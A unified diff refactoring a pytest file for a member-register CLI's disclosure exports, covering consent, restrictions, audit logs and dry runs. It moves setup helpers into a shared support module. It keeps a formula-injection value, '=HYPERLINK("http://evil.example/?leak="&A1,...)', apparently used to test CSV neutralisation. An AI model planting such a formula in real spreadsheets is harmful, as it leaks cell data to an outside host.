@@ -11,28 +11,21 @@ from __future__ import annotations
 
 import csv
 import json
-import os
 import re
 import shutil
-import sqlite3
 import stat
-from dataclasses import dataclass
-from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
-from typer.testing import CliRunner, Result
+from typer.testing import Result
 
-from kss_panel import crypto, services
-from kss_panel.cli import app, neutralise
-from kss_panel.policy import load_policies
+from kss_panel import services
+from kss_panel.cli import neutralise
+from kss_panel.policy import Policies
+from support import NOW, POLICIES_DIR, Register, Template, build_template, clear_kss_environment
 
-ROOT = Path(__file__).resolve().parents[1]
-POLICIES_DIR = ROOT / "policies"
-NOW = datetime(2025, 6, 15, 9, 30, tzinfo=UTC)
-FAST_KDF = crypto.KdfParams(salt=b"s" * 16, memory_kib=64, iterations=1, lanes=1)
 SHIPPED = yaml.safe_load((POLICIES_DIR / "disclosure.yaml").read_text(encoding="utf-8"))["recipients"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -62,14 +55,6 @@ LETTER_SHOP = """
       - contact.postal_code
       - contact.city
 """
-
-
-@pytest.fixture(autouse=True)
-def _no_kss_panel_environment(monkeypatch: pytest.MonkeyPatch) -> None:
-    for name in list(os.environ):
-        if name.startswith("KSS_PANEL_"):
-            monkeypatch.delenv(name)
-    monkeypatch.setenv("COLUMNS", "250")
 
 
 def person(n: int, first: str, last: str, *, city: str = "Kouvola", street: str = "Kauppamiehenkatu 5", email_marketing: bool = True,
@@ -103,94 +88,47 @@ DISCLOSABLE = ["anna", "bertta", "fanni", "greta", "hilja", "ilona"]  # not rest
 WITH_EMAIL_CONSENT = ["anna", "fanni", "greta", "hilja", "ilona"]
 
 
-@dataclass
-class Template:
-    db: Path
-    key_text: str
-    ids: dict[str, str]
-
-
-def cli(db: Path, key_file: Path, *args: str, policies: Path = POLICIES_DIR) -> Result:
-    argv = ["--db", str(db), "--policies", str(policies), *args, "--key-file", str(key_file)]
-    return CliRunner().invoke(app, argv)
-
-
 @pytest.fixture(scope="module")
-def template(tmp_path_factory: pytest.TempPathFactory) -> Template:
+def template(tmp_path_factory: pytest.TempPathFactory, policies: Policies) -> Template:
     """Built once: everyone enrolled at NOW; all but elsa admitted; cecilia restricted; dora objected (through the CLI)."""
     directory = tmp_path_factory.mktemp("disclosure-template")
-    db = directory / "register.db"
-    policies = load_policies(POLICIES_DIR)
-    key_text = crypto.new_key_file_text()
-    with services.init_register(db, policies, "aino", "correct horse battery", FAST_KDF, NOW) as session:
-        services.add_officer(session, "desk", "officer", NOW, key_secret=crypto.parse_key_file(key_text))
-        ids = {name: services.enrol(session, data, NOW) for name, data in PEOPLE.items()}
-    key_file = directory / "desk.key"
-    key_file.write_text(key_text)
+    built = build_template(directory, policies, PEOPLE)
+    reg = Register(directory, built, policies)
     roster = directory / "roster.csv"
     roster.write_text("customer_number\n" + "".join(PEOPLE[name]["customer_number"] + "\n" for name in PEOPLE))
-    saved = dict(os.environ)
-    try:
-        for name in [k for k in os.environ if k.startswith("KSS_PANEL_")]:
-            del os.environ[name]
+    with pytest.MonkeyPatch.context() as monkeypatch:  # the autouse clean environment is per test, not per module
+        clear_kss_environment(monkeypatch)
         for name in ADMITTED:
-            result = cli(db, key_file, "admit", ids[name], "--customers", str(roster))
+            result = reg.run("admit", reg.ids[name], "--customers", str(roster))
             assert result.exit_code == 0, result.stderr
-        assert cli(db, key_file, "restrict", ids["cecilia"], "--reason", "accuracy-contested").exit_code == 0
-        assert cli(db, key_file, "consent", ids["dora"], "--object").exit_code == 0
-    finally:
-        os.environ.clear()
-        os.environ.update(saved)
-    return Template(db, key_text, ids)
+        assert reg.run("restrict", reg.ids["cecilia"], "--reason", "accuracy-contested").exit_code == 0
+        assert reg.run("consent", reg.ids["dora"], "--object").exit_code == 0
+    return built
 
 
-class Panel:
-    def __init__(self, directory: Path, template: Template) -> None:
-        self.dir = directory
-        self.db = directory / "register.db"
-        shutil.copy(template.db, self.db)
-        os.chmod(self.db, 0o600)
-        self.key_file = directory / "desk.key"
-        self.key_file.write_text(template.key_text)
-        self.ids = dict(template.ids)
+class Panel(Register):
+    """A copy of the template; ``names`` maps member ids back to names."""
+
+    def __init__(self, directory: Path, template: Template, policies: Policies) -> None:
+        super().__init__(directory, template, policies)
         self.names = {member_id: name for name, member_id in self.ids.items()}
-        self.policies = POLICIES_DIR
-
-    def cli(self, *args: str) -> Result:
-        return cli(self.db, self.key_file, *args, policies=self.policies)
-
-    def data(self, *args: str) -> Any:
-        result = self.cli(*args, "--json")
-        assert result.exit_code == 0, (result.stdout, result.stderr)
-        return json.loads(result.stdout)["data"]
 
     def export(self, recipient: str, purpose: str, *more: str, out: str = "out.csv") -> tuple[Result, Path]:
         path = self.dir / out
-        return self.cli("export", "disclosure", recipient, "--purpose", purpose, "--out", str(path), *more), path
-
-    def sql(self, statement: str) -> list[tuple[Any, ...]]:
-        conn = sqlite3.connect(self.db)
-        try:
-            return conn.execute(statement).fetchall()
-        finally:
-            conn.close()
-
-    def tables(self) -> dict[str, list[tuple[Any, ...]]]:
-        names = [r[0] for r in self.sql("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")]
-        return {name: self.sql(f'SELECT * FROM "{name}" ORDER BY rowid') for name in names}
+        return self.run("export", "disclosure", recipient, "--purpose", purpose, "--out", str(path), *more), path
 
     def custom_policies(self, extra: str) -> Path:
         directory = self.dir / "policies"
         shutil.copytree(POLICIES_DIR, directory)
         with open(directory / "disclosure.yaml", "a", encoding="utf-8") as handle:
             handle.write(extra)
-        self.policies = directory
+        self.policies_dir = directory
         return directory
 
 
 @pytest.fixture
-def panel(tmp_path: Path, template: Template) -> Panel:
-    return Panel(tmp_path, template)
+def panel(tmp_path: Path, template: Template, policies: Policies) -> Panel:
+    return Panel(tmp_path, template, policies)
 
 
 def read_csv(path: Path) -> tuple[list[str], list[dict[str, str]]]:
@@ -244,7 +182,7 @@ def test_direct_marketing_requires_the_email_marketing_consent(panel: Panel) -> 
 
 
 def test_a_withdrawn_consent_takes_the_member_out_of_marketing(panel: Panel) -> None:
-    assert panel.cli("consent", panel.ids["anna"], "--withdraw", "email_marketing").exit_code == 0
+    assert panel.run("consent", panel.ids["anna"], "--withdraw", "email_marketing").exit_code == 0
     result, out = panel.export("direct-marketing", "competitions")
     assert result.exit_code == 0, result.stderr
     _, rows = read_csv(out)
@@ -252,7 +190,7 @@ def test_a_withdrawn_consent_takes_the_member_out_of_marketing(panel: Panel) -> 
 
 
 def test_lifting_a_restriction_makes_the_member_disclosable_again(panel: Panel) -> None:
-    assert panel.cli("restrict", panel.ids["cecilia"], "--lift").exit_code == 0
+    assert panel.run("restrict", panel.ids["cecilia"], "--lift").exit_code == 0
     result, out = panel.export("panel-mailer", "communication")
     assert result.exit_code == 0, result.stderr
     assert panel.ids["cecilia"] in {row["member_id"] for row in read_csv(out)[1]}
@@ -295,16 +233,10 @@ def test_applicants_never_appear(panel: Panel) -> None:
         assert "Elsa" not in out.read_text()
 
 
-def test_a_register_of_applicants_only_gives_a_header_and_no_rows(tmp_path: Path, template: Template) -> None:
-    db = tmp_path / "applicants.db"
-    key_text = crypto.new_key_file_text()
-    with services.init_register(db, load_policies(POLICIES_DIR), "aino", "correct horse battery", FAST_KDF, NOW) as session:
-        services.add_officer(session, "desk", "officer", NOW, key_secret=crypto.parse_key_file(key_text))
-        services.enrol(session, PEOPLE["anna"], NOW)
-    key_file = tmp_path / "desk.key"
-    key_file.write_text(key_text)
+def test_a_register_of_applicants_only_gives_a_header_and_no_rows(tmp_path: Path, template: Template, policies: Policies) -> None:
+    reg = Register.create(tmp_path, policies, {"anna": PEOPLE["anna"]})
     out = tmp_path / "out.csv"
-    result = cli(db, key_file, "export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
+    result = reg.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
     assert result.exit_code == 0, result.stderr
     assert read_csv(out) == (["member_id", *SHIPPED["panel-mailer"]["fields"]], [])
 
@@ -372,7 +304,7 @@ def test_json_format_keeps_values_as_they_are(panel: Panel) -> None:
 def test_json_format_with_nobody_to_disclose_is_an_empty_array(panel: Panel) -> None:
     panel.custom_policies(OVERSEAS.format(safeguard="    safeguard: standard-contractual-clauses\n"))
     for name in DISCLOSABLE:
-        assert panel.cli("restrict", panel.ids[name], "--reason", "legal-claims").exit_code == 0
+        assert panel.run("restrict", panel.ids[name], "--reason", "legal-claims").exit_code == 0
     result, out = panel.export("survey-cloud", "market_research", "--format", "json", out="none.json")
     assert result.exit_code == 0, result.stderr
     assert json.loads(out.read_text()) == []
@@ -420,7 +352,7 @@ def test_dry_run_prints_counts_and_writes_and_logs_nothing(panel: Panel) -> None
     assert not out.exists()
     assert panel.tables() == before
 
-    result = panel.cli("export", "disclosure", "panel-mailer", "--purpose", "communication", "--dry-run", "--json")
+    result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--dry-run", "--json")
     assert result.exit_code == 0, result.stderr
     data = json.loads(result.stdout)["data"]
     assert data["dry_run"] is True and data["disclosed"] == 6 and data["members"] == 8
@@ -431,7 +363,7 @@ def test_dry_run_prints_counts_and_writes_and_logs_nothing(panel: Panel) -> None
 
 def test_an_export_without_an_output_file_is_refused(panel: Panel) -> None:
     before = panel.tables()
-    result = panel.cli("export", "disclosure", "panel-mailer", "--purpose", "communication")
+    result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication")
     assert result.exit_code == 5
     assert "--out" in result.stderr
     assert panel.tables() == before
@@ -481,7 +413,7 @@ def test_a_recipient_outside_the_eea_with_standard_contractual_clauses_works(pan
 
 
 def test_every_disclosed_member_gets_a_log_entry_that_the_access_export_lists(panel: Panel) -> None:
-    audit_before = len(panel.data("audit", "log"))
+    audit_before = len(panel.json("audit", "log"))
     result, out = panel.export("direct-marketing", "marketing")
     assert result.exit_code == 0, result.stderr
     logged = panel.sql("SELECT member_id, recipient, purpose, fields, disclosed_on FROM disclosures ORDER BY id")
@@ -490,36 +422,34 @@ def test_every_disclosed_member_gets_a_log_entry_that_the_access_export_lists(pa
     day = logged[0][4]
     assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", day) and {r[4] for r in logged} == {day}
 
-    entries = panel.data("audit", "log")[audit_before:]
+    entries = panel.json("audit", "log")[audit_before:]
     assert [e["action"] for e in entries] == ["export-disclosure"]
     entry = entries[0]
     assert entry["member_id"] is None and entry["actor"] == "desk"
     assert entry["fields"] == SHIPPED["direct-marketing"]["fields"]
     assert entry["detail"] == {"recipient": "direct-marketing", "purpose": "marketing", "members": 5}
 
-    anna = panel.data("export", "access", panel.ids["anna"])
+    anna = panel.json("export", "access", panel.ids["anna"])
     assert [{k: d[k] for k in ("recipient", "purpose", "fields", "date")} for d in anna["disclosures"]] == [
         {"recipient": "direct-marketing", "purpose": "marketing", "fields": SHIPPED["direct-marketing"]["fields"], "date": day}
     ]
     assert anna["disclosures"][0]["country"] == "FI"
     for name in ("bertta", "cecilia", "dora", "elsa"):  # no consent, restricted, objected, applicant
-        assert panel.data("export", "access", panel.ids[name])["disclosures"] == [], name
+        assert panel.json("export", "access", panel.ids[name])["disclosures"] == [], name
 
 
 def test_the_log_grows_with_each_disclosure(panel: Panel) -> None:
     assert panel.export("panel-mailer", "communication", out="a.csv")[0].exit_code == 0
     assert panel.export("sms-gateway", "marketing", out="b.csv")[0].exit_code == 0
-    anna = panel.data("export", "access", panel.ids["anna"])
+    anna = panel.json("export", "access", panel.ids["anna"])
     assert [(d["recipient"], d["purpose"]) for d in anna["disclosures"]] == [("panel-mailer", "communication"), ("sms-gateway", "marketing")]
     assert panel.sql("SELECT count(*) FROM disclosures")[0][0] == len(DISCLOSABLE) + 1
-    bertta = panel.data("export", "access", panel.ids["bertta"])
+    bertta = panel.json("export", "access", panel.ids["bertta"])
     assert [(d["recipient"], d["fields"]) for d in bertta["disclosures"]] == [("panel-mailer", SHIPPED["panel-mailer"]["fields"])]
 
 
 def test_the_disclosure_log_date_is_the_day_of_the_export(panel: Panel) -> None:
-    policies = load_policies(POLICIES_DIR)
-    session = services.unlock(panel.db, policies, services.Credentials(key_secret=crypto.parse_key_file(panel.key_file.read_text())))
-    with session:
+    with panel.session() as session:
         rows: list[dict[str, Any]] = []
         summary = services.disclosure_export(session, "panel-mailer", "communication", NOW, write_row=rows.append)
         assert summary["disclosed"] == len(rows) == len(DISCLOSABLE)
@@ -534,6 +464,6 @@ def test_the_disclosure_log_date_is_the_day_of_the_export(panel: Panel) -> None:
 def test_no_disclosure_is_logged_when_the_export_fails(panel: Panel) -> None:
     before = panel.tables()
     out = panel.dir / "missing-dir" / "out.csv"
-    result = panel.cli("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
+    result = panel.run("export", "disclosure", "panel-mailer", "--purpose", "communication", "--out", str(out))
     assert result.exit_code == 5, (result.stdout, result.stderr)
     assert panel.tables() == before
